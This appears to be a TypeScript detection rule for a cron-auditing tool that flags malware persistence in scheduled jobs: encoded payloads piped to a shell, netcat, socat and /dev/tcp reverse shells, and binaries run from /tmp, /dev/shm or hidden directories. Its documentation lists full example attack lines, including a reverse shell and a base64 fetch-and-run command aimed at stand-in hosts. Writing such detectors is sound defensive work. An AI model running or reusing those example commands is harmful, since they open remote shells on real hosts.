import { clueText, intentOf } from '../core/shell/index.js';
import { codeSource, codeWords, commandsInside, derived, interpreterName, literalPrefix, program } from '../core/shell/queries.js';
import type { ShellAnalysis, SimpleCommand } from '../core/shell/types.js';
import type { FindingDraft, Rule } from './rule.js';

/** Raw network pipes: piped into a shell they make a reverse shell. */
const NETWORK_PIPES = new Set(['nc', 'ncat', 'netcat', 'telnet', 'socat', 'openssl']);
const NETCAT = new Set(['nc', 'ncat', 'netcat']);
const SHARED_DIRS = /^(?:\/dev\/shm|\/tmp|\/var\/tmp)\//;
/** Hidden directories of ordinary per-user tool installs (`~/.local/bin`, `~/.acme.sh/acme.sh`). */
const TOOL_DIRS = new Set([
  '.local', '.cargo', '.nvm', '.rbenv', '.pyenv', '.venv', '.virtualenvs', '.acme.sh', '.config', '.composer', '.deno', '.bun',
  '.npm-global', '.rvm', '.sdkman', '.asdf', '.volta', '.linuxbrew', '.phpenv', '.goenv', '.poetry', '.dotnet', '.gem', '.wp-cli',
]);
const SOCKET_CODE = /socket/i;
/** Text any shape below needs (quotes aside): decoders, network pipes and devices, socket code,
 *  shared or hidden paths. */
const CLUES = /base(?:64|32|nc)|openssl|xxd|(?:^|[\s/|;&(`])n(?:c|cat|etcat)\b|telnet|socat|\/dev\/(?:tcp|udp)|socket|tmp\/|shm\/|(?:^|[\s/=(`])\.[\w-]/i;
const SPAWN_CODE = /subprocess|pty\.spawn|os\.dup2|exec\s*\(|\/bin\/(?:ba)?sh|proc_open|popen|system\s*\(/i;

/** `base64 -d`, `openssl base64 -d`, `xxd -r`: turns an opaque blob back into what it hides. */
function decodes(command: SimpleCommand): string | null {
  const { name, args } = program(command);
  const values = args.map((w) => w.value ?? '');
  if ((name === 'base64' || name === 'base32' || name === 'basenc') && values.some((v) => v === '--decode' || /^-[a-zA-Z]*[dD]/.test(v))) return `${name} -d`;
  if (name === 'openssl' && values.includes('-d') && values.some((v) => v === 'base64' || v === '-base64' || v === '-a')) return 'openssl base64 -d';
  if (name === 'xxd' && values.some((v) => /^-[a-z]*r/.test(v))) return 'xxd -r';
  return null;
}

/** A path that hides: a dot-file, or one inside a hidden directory that is not a known tool install. */
function hiddenPath(path: string): boolean {
  const parts = path.split('/').filter((p) => p !== '' && p !== '.' && p !== '..');
  return parts.some((p, i) => p.startsWith('.') && (i === parts.length - 1 || !TOOL_DIRS.has(p)));
}

/** What the command runs from a file: the program word behind wrappers, or an interpreter's script. */
function executedPath(command: SimpleCommand): string | null {
  const { name, word, args } = program(command);
  if (!word) return null;
  if (name === '.' || name === 'source') return args[0] ? literalPrefix(args[0]) : null;
  const interpreter = interpreterName(name);
  if (!interpreter) return literalPrefix(word);
  if (codeSource(interpreter, args).kind !== 'file') return null;
  const script = args.find((w) => !(w.value ?? '').startsWith('-'));
  return script ? literalPrefix(script) : null;
}

function shapes(analysis: ShellAnalysis): string[] {
  const found: string[] = [];
  for (const pipeline of analysis.pipelines) {
    const members = pipeline.commands.map((i) => analysis.commands[i]!);
    // Commands of one compound element (`{ a; b; } | c`) are not piped into each other: compare elements.
    const element = (k: number): number => pipeline.elements[k]!;
    const stdinInterpreters = members.flatMap((c, k) => {
      const { name, args } = program(c);
      const interpreter = interpreterName(name);
      return interpreter !== null && codeSource(interpreter, args).kind === 'stdin' ? [{ command: c, k }] : [];
    });
    members.forEach((source, k) => {
      const decoder = decodes(source);
      const later = stdinInterpreters.find((s) => element(s.k) > element(k));
      if (decoder && later) found.push(`\`${decoder} | ${program(later.command).name}\` runs a hidden, encoded program`);
    });
    // `nc host port | sh`, or `cat fifo | sh -i | nc host port > fifo`: either way a remote host drives the shell.
    const netAt = members.findIndex((c) => NETWORK_PIPES.has(program(c).name ?? ''));
    const shell = netAt < 0 ? undefined : stdinInterpreters.find((s) => element(s.k) !== element(netAt));
    if (shell) found.push(`\`${program(members[netAt]!).name}\` piped with \`${program(shell.command).name}\` is a reverse shell: a remote host types the commands`);
  }
  for (const command of analysis.commands) {
    const { name, args } = program(command);
    for (const word of codeWords(name, args)) {
      const decoder = commandsInside(analysis, word).map(decodes).find((d) => d !== null);
      if (decoder) found.push(`\`${name}\` runs the output of \`${decoder}\`: a hidden, encoded program`);
      if (word.value && SOCKET_CODE.test(word.value) && SPAWN_CODE.test(word.value)) found.push(`\`${name}\` runs inline code that connects a socket to a shell (a reverse shell)`);
    }
    const targets = [...command.redirects.map((r) => r.target), ...args];
    const device = targets.find((w) => /^\/dev\/(?:tcp|udp)\//.test(literalPrefix(w)));
    if (device) found.push(`\`${device.text}\` opens a network connection from the shell (a reverse shell shape)`);
    if (name && NETCAT.has(name) && args.some((w) => /^-[a-zA-Z]*[ec]/.test(w.value ?? ''))) found.push(`\`${name} -e\` hands a program to whoever connects`);
    if (name === 'socat' && args.some((w) => /^(?:exec|system):/i.test(literalPrefix(w)))) found.push('`socat … exec:` hands a program to the other end of a connection');
    const path = executedPath(command);
    if (path && SHARED_DIRS.test(path)) found.push(`runs \`${path}\` from a world-writable directory, where malware drops its binaries`);
    else if (path && path.includes('/') && hiddenPath(path)) found.push(`runs the hidden file \`${path}\``);
  }
  return [...new Set(found)];
}

export const suspiciousPayload: Rule = {
  id: 'suspicious-payload',
  title: 'Job looks like malware persistence',
  practice: 4,
  severity: 'critical',
  fixKind: 'none',
  docs: {
    rationale:
      'Cron is one of the first places attackers use to keep a foothold (MITRE ATT&CK T1053.003): a line that decodes ' +
      'and runs a base64 blob, opens a reverse shell, or starts a binary from /tmp, /dev/shm or a dot-directory. ' +
      'Administrators do not write jobs like these; when one is found, the host should be treated as compromised.',
    bad: [
      { text: '*/5 * * * * root echo Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5jb20vYSB8IHNo | base64 -d | sh\n' },
      { text: '* * * * * root /bin/bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"\n' },
      { text: '*/10 * * * * root /dev/shm/.x/kworker >/dev/null 2>&1\n' },
      { path: '/var/spool/cron/crontabs/www-data', text: '@reboot nc -e /bin/sh 203.0.113.7 4444\n' },
    ],
    good: [
      { text: '0 2 * * * root /usr/local/bin/backup >/dev/null 2>&1\n' },
      { text: '0 2 * * * root /root/.acme.sh/acme.sh --cron --home /root/.acme.sh > /dev/null\n', note: 'a known tool install in a dot-directory' },
      { text: '0 2 * * * root base64 -d /etc/app/cert.b64 > /etc/app/cert.pem\n', note: 'decoding data into a file is not running it' },
    ],
    references: ['MITRE ATT&CK T1053.003 (Scheduled Task/Job: Cron)', 'MITRE ATT&CK T1027 (Obfuscated Files or Information)', 'MITRE ATT&CK T1059.004 (Unix Shell)', 'Lynis SCHD-7704'],
    remedy:
      'Do not just delete the line: preserve the file for investigation, find how it got there (who could write this ' +
      'crontab), look for other persistence (systemd units, ~/.ssh/authorized_keys, /etc/rc.local), then remove it. ' +
      'The wizard offers to disable the line.',
  },
  detect(ctx) {
    const drafts: FindingDraft[] = [];
    for (const job of ctx.inventory.jobs) {
      if (!CLUES.test(clueText(ctx, job))) continue;
      const analysis = intentOf(ctx, job);
      const found = derived(analysis, 'suspicious-payload', () => shapes(analysis));
      if (found.length > 0) drafts.push({ job, message: found.join('; ') });
    }
    return drafts;
  },
};
